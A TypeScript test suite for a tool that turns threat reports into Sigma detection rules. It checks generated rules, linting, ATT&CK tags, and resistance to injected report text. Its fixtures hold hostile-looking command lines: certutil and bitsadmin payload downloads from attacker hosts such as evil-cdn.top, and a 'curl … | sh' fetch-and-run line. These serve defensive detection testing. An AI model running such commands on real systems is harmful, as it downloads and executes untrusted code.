import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseAti } from '../../../src/generate/input.js';
import { generateSigma } from '../../../src/generate/sigma/generate.js';
import { RuleSetCoverage } from '../../../src/generate/sigma/coverage.js';
import { lintCollection } from '../../../src/sigma/lint/index.js';
import { loadRuleText, type SigmaRule } from '../../../src/sigma/index.js';
import { loadPipeline } from '../../../src/sigma/pipeline/index.js';
import { compiled, fixture, sysmonProcess } from '../helpers.js';

const DATE = '2024-05-01';

describe('Sigma generation', () => {
  const doc = fixture('apt-windows');
  const gen = generateSigma(doc, { date: DATE });
  const byTitle = (re: RegExp) => {
    const r = gen.rules.find((x) => re.test(x.title));
    assert.ok(r, `no rule matching ${re}: ${gen.rules.map((x) => x.title).join(' | ')}`);
    return r;
  };

  it('every rule passes parse, round trip, lint, compile and self-test', () => {
    assert.equal(gen.rejected.length, 0, JSON.stringify(gen.rejected.map((r) => r.check.errors)));
    assert.ok(gen.rules.length >= 15);
    for (const r of gen.rules) assert.equal(gen.checks.get(r.id)!.ok, true);
  });

  it('a command line yields a generalised process_creation rule: fires on a variant, not on a near miss', () => {
    const r = byTitle(/Certutil\.exe with its switches/);
    assert.equal(r.draft.logsource.category, 'process_creation');
    const set = compiled(r);
    const fires = (e: Record<string, unknown>) => set.matchEvent(e).length > 0;
    // another URL, another folder, slashes instead of dashes, a renamed copy: still the same behaviour
    assert.ok(fires(sysmonProcess('C:\\Windows\\System32\\certutil.exe', 'certutil  /urlcache /split /f https://cdn.other.example/p.bin C:\\ProgramData\\p.bin')));
    assert.ok(fires(sysmonProcess('C:\\Users\\Public\\cu.exe', 'cu.exe -urlcache -split -f http://10.9.8.7/x x.exe', { OriginalFileName: 'CertUtil.exe' })));
    // near misses: certutil without a download, a download tool without certutil
    assert.ok(!fires(sysmonProcess('C:\\Windows\\System32\\certutil.exe', 'certutil -hashfile C:\\Users\\Public\\svcupd.exe SHA256')));
    assert.ok(!fires(sysmonProcess('C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin /transfer j http://185.174.100.23/svcupd.exe C:\\Users\\Public\\svcupd.exe')));
  });

  it('the IOC rule keeps the report values, escaped', () => {
    const r = byTitle(/Certutil\.exe with the report's values/);
    const set = compiled(r);
    assert.ok(set.matchEvent(sysmonProcess('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://185.174.100.23/svcupd.exe C:\\Users\\Public\\svcupd.exe')).length > 0);
    assert.equal(set.matchEvent(sysmonProcess('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://185.174.100.24/other.exe C:\\x.exe')).length, 0);
  });

  it('a registry persistence procedure yields registry rules', () => {
    const reg = gen.rules.filter((r) => r.draft.logsource.category === 'registry_set');
    assert.ok(reg.length >= 2);
    const behaviour = reg.find((r) => r.draft.pattern === 'behaviour')!;
    const set = compiled(behaviour);
    const ev = (target: string, details: string) => ({ EventID: 13, Channel: 'Microsoft-Windows-Sysmon/Operational', EventType: 'SetValue', Image: 'C:\\Windows\\System32\\reg.exe', TargetObject: target, Details: details });
    assert.ok(set.matchEvent(ev('HKU\\S-1-5-21-1-2-3-500\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OtherName', 'C:\\Users\\Public\\other.exe')).length > 0);
    assert.equal(set.matchEvent(ev('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive', 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe')).length, 0);
    const ioc = reg.find((r) => r.draft.pattern === 'ioc')!;
    assert.match(ioc.yaml, /LanternUpdate/);
  });

  it('a file that ships with Windows, named by the report, is not an artefact; a copy elsewhere is', () => {
    const base = fixture('apt-windows');
    const p = base.procedures.find((x) => x.commands.some((c) => /comsvcs/.test(c.text)))!;
    const objects = [
      { kind: 'file' as const, value: 'C:\\Windows\\System32\\comsvcs.dll' },
      { kind: 'file' as const, value: 'rundll32.exe' },
      { kind: 'file' as const, value: 'C:\\Users\\Public\\rundll32.exe' },
    ];
    const g = generateSigma({ ...base, procedures: [{ ...p, objects }] }, { date: DATE });
    const files = g.rules.filter((r) => r.draft.logsource.category === 'file_event').map((r) => r.yaml.split('detection:')[1]!);
    assert.ok(!files.some((d) => /comsvcs|System32/i.test(d)), files.join('\n'));
    assert.ok(files.some((d) => /rundll32\.exe/.test(d) || /\\Users\\Public\\/.test(d)), 'the copy in Public is kept');
    assert.ok(g.skipped.some((s) => /comsvcs\.dll/.test(s.what) && /ships with Windows/.test(s.reason)));
    assert.ok(g.skipped.some((s) => s.what === 'file "rundll32.exe"' && /ships with Windows/.test(s.reason)));
  });

  it('parent–child, script-block, network, DNS, task, LSASS and hash rules come from the other artefacts', () => {
    const cats = new Set(gen.rules.map((r) => r.draft.logsource.category ?? r.draft.logsource.service));
    for (const c of ['process_creation', 'ps_script', 'dns_query', 'network_connection', 'file_event', 'security', 'process_access', 'registry_set']) assert.ok(cats.has(c), `no ${c} rule`);
    const pc = byTitle(/started by winword\.exe/);
    assert.match(pc.yaml, /ParentImage\|endswith: \\winword\.exe/);
    assert.ok(gen.withoutArtefacts.includes('proc-1'));
  });

  it('rules carry ATT&CK tags, evidence, references, level and false positives; ids are stable', () => {
    for (const r of gen.rules) {
      const c = loadRuleText(r.yaml, r.fileName);
      const rule = c.rules[0]!;
      assert.ok(rule.tags.some((t) => /^attack\.t\d{4}/.test(t)), r.title);
      assert.ok(rule.tags.some((t) => /^attack\.[a-z-]+$/.test(t)), r.title);
      assert.match(rule.description!, /Evidence: "/);
      assert.ok((rule.references ?? []).some((u) => u.startsWith('https://attack.mitre.org/techniques/')));
      assert.ok(['low', 'medium', 'high', 'critical'].includes(rule.level!));
      assert.ok((rule.falsepositives ?? []).length > 0);
      assert.equal(rule.date, DATE);
    }
    const again = generateSigma(fixture('apt-windows'), { date: DATE });
    assert.deepEqual(again.rules.map((r) => r.yaml), gen.rules.map((r) => r.yaml));
  });

  it('the YAML round-trips through our parser and lints clean as a collection', () => {
    const rules: SigmaRule[] = [];
    for (const r of gen.rules) {
      const c = loadRuleText(r.yaml, r.fileName);
      assert.equal(c.issues.length, 0);
      rules.push(c.rules[0]!);
      assert.equal(c.rules[0]!.id, r.id);
      assert.equal(c.rules[0]!.title, r.title);
    }
    const pipeline = loadPipeline(['default']);
    const lint = lintCollection({ rules, correlations: [], filters: [], issues: [], files: rules.length }, { context: { knownFields: (l) => pipeline.knownFields(l), coversLogsource: (l) => pipeline.coversLogsource(l) } });
    assert.equal(lint.summary.errors, 0, JSON.stringify(lint.findings.filter((f) => f.severity === 'error')));
    assert.equal(lint.summary.warnings, 0, JSON.stringify(lint.findings.filter((f) => f.severity === 'warning')));
  });

  it('links existing rules that already cover the procedure with related', () => {
    const existing = `title: Certutil download (existing)
id: 11111111-2222-4333-8444-555555555555
status: test
tags: [attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  selection: {Image|endswith: '\\certutil.exe', CommandLine|contains: urlcache}
  condition: selection
level: medium
`;
    const coll = loadRuleText(existing, 'existing.yml');
    const cov = RuleSetCoverage.fromCollection(coll, loadPipeline(['default']));
    const g = generateSigma(fixture('apt-windows'), { date: DATE, existing: cov });
    const r = g.rules.find((x) => /Certutil\.exe with its switches/.test(x.title))!;
    assert.deepEqual(r.related.map((x) => x.id), ['11111111-2222-4333-8444-555555555555']);
    assert.match(r.yaml, /related:\n {2}- id: 11111111-2222-4333-8444-555555555555\n {4}type: similar/);
    const proc = g.procedures.find((p) => p.technique === 'T1105')!;
    assert.equal(proc.coveredBy[0]!.title, 'Certutil download (existing)');
  });

  it('Linux commands yield Linux rules, the download pipeline included', () => {
    const g = generateSigma(fixture('linux-miner'), { date: DATE, platform: 'linux' });
    assert.equal(g.rejected.length, 0, JSON.stringify(g.rejected.map((r) => r.check.errors)));
    assert.ok(g.rules.every((r) => r.draft.logsource.product === 'linux' || r.draft.logsource.product === 'windows'));
    const pipe = g.rules.find((r) => r.draft.family === 'pipeline')!;
    const set = compiled(pipe);
    const ev = (cl: string) => ({ EventID: 1, Channel: 'Linux-Sysmon/Operational', Image: '/usr/bin/bash', CommandLine: cl });
    assert.ok(set.matchEvent(ev("bash -c 'curl -s https://get.other.example/x | sh'")).length > 0);
    assert.equal(set.matchEvent(ev("bash -c 'curl -s https://get.other.example/x -o x.sh'")).length, 0);
    assert.ok(g.rules.some((r) => r.draft.logsource.category === 'file_event' && /cron|authorized_keys|\/tmp/.test(r.yaml)));
  });
});

describe('hostile report text', () => {
  const doc = fixture('hostile');
  const gen = generateSigma(doc, { date: DATE });

  it('stays text: no injected keys, levels or wildcards', () => {
    assert.equal(gen.rejected.length, 0, JSON.stringify(gen.rejected.map((r) => r.check.errors)));
    assert.ok(gen.rules.length > 0);
    for (const r of gen.rules) {
      const c = loadRuleText(r.yaml, r.fileName);
      assert.equal(c.issues.length, 0);
      assert.equal(c.rules.length, 1, 'one document per rule (no injected ---)');
      const rule = c.rules[0]!;
      assert.deepEqual(Object.keys(rule.custom), []);
      assert.notEqual(rule.level, 'critical');
      assert.equal(rule.detection.conditionText.length, 1);
      assert.doesNotMatch(rule.detection.conditionText[0]!, /1 of them/);
      for (const s of rule.detection.searches.values()) {
        for (const alt of s.alternatives) for (const it of alt) for (const v of it.values) if (v.type === 'string') assert.ok(v.parts.every((p) => p.kind === 'text'), `wildcard in ${r.title}`);
      }
      assert.match(rule.description!, /title: injected/); // quoted, as text
    }
  });

  it('keeps the literal asterisk and question mark of a report value', () => {
    const r = gen.rules.find((x) => x.draft.pattern === 'ioc' && /a\*b\?/.test(x.title))!;
    const set = compiled(r);
    const cmd = 'certutil -urlcache -f "http://evil-cdn.top/a*b?.exe" out.exe';
    assert.ok(set.matchEvent(sysmonProcess('C:\\Windows\\System32\\certutil.exe', cmd)).length > 0);
    assert.equal(set.matchEvent(sysmonProcess('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f "http://evil-cdn.top/aXXbY.exe" out.exe')).length, 0);
  });
});

describe('ATI input', () => {
  it('names the file and the JSON path of a schema problem', () => {
    const bad = JSON.stringify({ ...fixture('apt-windows'), procedures: [{ ...fixture('apt-windows').procedures[0], technique: 'T99' }] });
    assert.throws(() => parseAti(bad, 'bad.json'), (e: Error & { describe?: () => string }) => /procedures\[0\]\.technique/.test(e.describe!()) && /bad\.json/.test(e.describe!()));
    assert.throws(() => parseAti('{"schema": ', 'x.json'), /not valid JSON/);
  });
});

describe('switches SigmaHQ finds telling', () => {
  it('narrow the behaviour rule to them when the rule set is mined', async () => {
    const { BinaryCatalog } = await import('../../../src/generate/knowledge/catalog.js');
    const catalog = new BinaryCatalog().addSigmaRules(
      loadRuleText(
        "title: t\nid: 21111111-2222-4333-8444-555555555555\nlogsource: {product: windows, category: process_creation}\ndetection:\n  img: {Image|endswith: '\\certutil.exe'}\n  cli: {CommandLine|contains: [urlcache, verifyctl]}\n  condition: img and cli\n",
        'x.yml',
      ),
    );
    const g = generateSigma(fixture('apt-windows'), { date: DATE, catalog });
    const r = g.rules.find((x) => /Certutil\.exe with its switches/.test(x.title))!;
    assert.match(r.title, /switches -urlcache,/);
    assert.ok(compiled(r).matchEvent(sysmonProcess('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://a.example/x x')).length > 0);
  });
});
